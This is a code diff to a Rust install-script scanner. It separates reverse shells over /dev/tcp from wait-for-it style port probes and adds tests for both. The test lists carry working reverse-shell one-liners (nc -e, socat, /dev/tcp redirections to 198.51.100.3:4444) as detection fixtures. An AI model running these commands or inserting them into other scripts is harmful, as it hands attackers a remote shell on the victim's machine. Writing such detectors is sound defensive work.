@@ -14,12 +14,13 @@ use crate::gyp;
 use crate::inline_code::{self, Language};
 use crate::shell::{self, Separator, SubstitutionKind, Word};
 use crate::{Analysis, ScanContext};
-use dsca_model::{Category, Evidence, Finding, Location, Rule, Severity};
+use dsca_model::{Category, Evidence, Finding, Location, Rule, Severity, Signal};
 
 pub const RULE: Rule = Rule {
     id: "DSCA102",
     name: "risky-install-command",
     category: Category::InstallScripts,
+    signal: Signal::Behaviour,
     severity: Severity::High,
     title: "Install script runs a risky command",
     problem: "An install-time script fetches code from the network, decodes hidden data, \
@@ -129,9 +130,17 @@ pub fn risky_shapes(command: &str) -> Vec<Hit> {
     scan(command, 0, &mut hits);
     let lower = command.to_ascii_lowercase();
     if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
-        hits.push(Hit {
-            severity: Severity::Critical,
-            reason: "connects a shell to a remote host through /dev/tcp (reverse shell)".into(),
+        hits.push(if wires_shell_to_dev_tcp(&lower) {
+            Hit {
+                severity: Severity::Critical,
+                reason: "connects a shell to a remote host through /dev/tcp (reverse shell)".into(),
+            }
+        } else {
+            // `(exec 3<>/dev/tcp/$host/$port)` is how wait-for-it scripts probe a port.
+            Hit {
+                severity: Severity::Medium,
+                reason: "opens a connection through /dev/tcp".into(),
+            }
         });
     }
     let mut seen = std::collections::HashSet::new();
@@ -139,6 +148,23 @@ pub fn risky_shapes(command: &str) -> Vec<Hit> {
     // Stable: equal severities keep the order they appear in the command.
     hits.sort_by_key(|hit| std::cmp::Reverse(hit.severity));
     hits
+}
+
+/// A /dev/tcp connection that a shell reads its commands from or writes its output to:
+/// an interactive shell (`-i`), standard input taken from it (`0>&1`, `0<&196`,
+/// `sh <&5`), or output sent to it (`>& /dev/tcp/...`).
+fn wires_shell_to_dev_tcp(lower: &str) -> bool {
+    let words: Vec<&str> = lower.split_whitespace().collect();
+    words.contains(&"-i")
+        || lower.contains("0>&1")
+        || lower.contains("0<&")
+        || lower.contains(">& /dev/")
+        || lower.contains(">&/dev/")
+        || lower.match_indices("<&").any(|(at, _)| {
+            lower[at + 2..]
+                .trim_start()
+                .starts_with(|c: char| c.is_ascii_digit())
+        })
 }
 
 /// Nested `sh -c`, `$(...)` deeper than this is not followed (hostile input).
@@ -745,8 +771,21 @@ mod tests {
             "nc -e /bin/sh 10.0.0.1 4444",
             "sh -i 2>&1 | nc x 1",
             "socat exec:'bash -li',pty tcp:x:1",
+            "0<&196;exec 196<>/dev/tcp/198.51.100.3/4444; sh <&196 >&196 2>&196",
+            "sh >& /dev/tcp/198.51.100.3/4444 0>&1",
         ] {
             assert_eq!(strongest(command), Some(Severity::Critical), "{command}");
+        }
+    }
+
+    #[test]
+    fn a_port_probe_through_dev_tcp_is_no_reverse_shell() {
+        // wait-for-it style readiness checks.
+        for command in [
+            "(exec 3<>\"/dev/tcp/$host/$port\") >/dev/null 2>&1",
+            "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
+        ] {
+            assert_eq!(strongest(command), Some(Severity::Medium), "{command}");
         }
     }
 
